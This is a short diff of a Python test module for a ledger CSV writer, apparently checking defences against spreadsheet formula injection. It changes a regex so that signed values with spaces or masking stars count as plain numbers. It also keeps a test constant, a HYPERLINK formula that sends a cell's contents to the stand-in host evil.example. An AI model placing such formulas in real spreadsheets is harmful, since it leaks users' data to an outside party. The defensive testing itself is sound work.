@@ -27,7 +27,8 @@ from tests.integration.ledger.sample import id_number, write_csv
 
 Ledger = dict[str, list[dict[str, object]]]
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"click")'
-_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
+#: a sign before digits, spaces and masking stars only (`+86 138****5678`): a number
+_PLAIN_NUMBER = re.compile(r"[+-][\d .*]+")
 
 
 def _is_formula_like(cell: str) -> bool:
